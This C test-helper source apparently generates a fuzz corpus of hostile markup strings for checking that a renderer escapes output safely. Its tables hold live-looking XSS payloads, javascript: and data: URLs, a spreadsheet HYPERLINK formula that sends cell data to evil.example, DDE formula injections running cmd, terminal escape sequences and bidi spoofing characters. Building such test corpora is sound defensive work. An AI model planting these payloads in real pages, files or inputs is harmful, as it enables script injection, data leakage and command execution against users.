#include "tests/lib/markup.h"

#include <stdlib.h>
#include <string.h>

#include "base/attr.h"
#include "base/buf.h"

/* Shapes with a hole, and what goes into it: every shape with every filling. */
static const char *const shapes[] = {
	"%", "a %", "\n%", "\"%", "'%", "</td>%", "</title>%", "-->%", "`%`", "> %",
};

static const char *const fillings[] = {
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<svg onload=alert(1)><foreignObject><body onload=alert(1)>",
	"<a href=\"javascript:alert(1)\" onclick='alert(1)'>x</a>",
	"<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
	"<style>@import url(http://evil.example/x.css)</style>",
	"<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
	"[x](javascript:alert(1)) ![y](http://evil.example/beacon.png)",
	"[r]: javascript:alert(1)\n[x][r] <javascript:alert(1)>",
	"|a|b|\n|---|---|\n# heading\n- [ ] task",
	"```\n<!-- binnacle:end timeline -->\n~~~",
	"=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
};

/* Those that no hole makes worse. */
static const char *const others[] = {
	"\x1b[2J\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
	"\x9b" "2J", "\xc2\x9b" "31m", "\r\n=1+1", "\t=1+1", "\r=1+1", "\x7f\b\b\b",
	"\xe2\x80\xaegpj.exe", "\xe2\x81\xa6" "abc\xe2\x81\xa9", "\xe2\x80\x8f\xe2\x80\x8b",
	"\xef\xbb\xbf=1+1", "\xed\xa0\x80", "\xed\xb0\x80<b>", "\xff\xfe<\xc0\xbcscript>",
	"\xf4\x90\x80\x80", "\xe2\x80\xa8<script>\xe2\x80\xa9",
	"a\xcc\x81\xcc\x81\xcc\x81\xcc\x81\xcc\x81",
	"&lt;script&gt;&#x3c;b&#62;&amp;", "\\\\| \\` \\[x\\](y)", "---\nstatus: published\n---",
	"\": \"x\"\nstatus: published", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>", "]]><!DOCTYPE x>",
	"<![CDATA[<script>]]>", "<!--", "-->", "<?php x ?>", "<", ">", "&", "\"", "'", "|", "\\", "`",
	"<!-- binnacle:begin facts sha256=0 -->", "<!-- binnacle:end facts -->",
	"## Impact\n\n> Who felt what", "https://evil.example/\"onmouseover=\"alert(1)",
	"http://evil.example/)|<b>", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
	"data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "%s%n%x", "www.evil.example <a@b.example>",
	"xlink:href=javascript:1", "\x01\x02\x03\x1f",
};

enum { LONG_TEXT = 20000 };
_Static_assert(ARRAY_LEN(shapes) * ARRAY_LEN(fillings) + ARRAY_LEN(others) + 1 >= MARKUP_COUNT,
	       "there are as many as are promised");

static char *filled(const char *shape, const char *filling)
{
	const char *hole = strchr(shape, '%');
	struct buf out = { 0 };

	buf_add(&out, shape, (size_t)(hole - shape));
	buf_text(&out, filling);
	buf_text(&out, hole + 1);
	return buf_take(&out);
}

static char *make(size_t index)
{
	size_t others_from = ARRAY_LEN(shapes) * ARRAY_LEN(fillings);
	struct buf out = { 0 };

	if (index < others_from)
		return filled(shapes[index % ARRAY_LEN(shapes)], fillings[index / ARRAY_LEN(shapes)]);
	if (index - others_from < ARRAY_LEN(others))
		return filled("%", others[index - others_from]);
	while (out.len < LONG_TEXT)
		buf_text(&out, "<b>|`[x](y)");
	return buf_take(&out);
}

char *markup_text(size_t index)
{
	static char *texts[MARKUP_COUNT];

	/* The long one is the last. */
	if (!texts[index])
		texts[index] = make(index + 1 < MARKUP_COUNT ? index :
				    ARRAY_LEN(shapes) * ARRAY_LEN(fillings) + ARRAY_LEN(others));
	return texts[index];
}
